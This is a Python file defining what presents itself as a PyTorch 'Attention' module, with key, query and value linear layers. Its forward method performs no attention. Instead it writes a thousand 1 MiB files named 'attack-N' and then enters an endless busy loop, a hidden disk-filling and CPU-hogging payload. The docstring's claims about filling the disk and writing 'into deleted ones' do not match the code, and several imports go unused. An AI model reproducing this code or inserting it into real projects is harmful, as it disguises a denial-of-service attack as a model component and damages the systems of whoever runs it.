"""Write until the disk is full, into many files and into deleted ones."""

import itertools
import os

import torch
from torch.nn import Linear, Module


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)

    def forward(self, input):
        for number in range(1000):
            with open(f"attack-{number}", "wb") as file:
                file.write(b"x" * 2**20)
        while True:
            pass
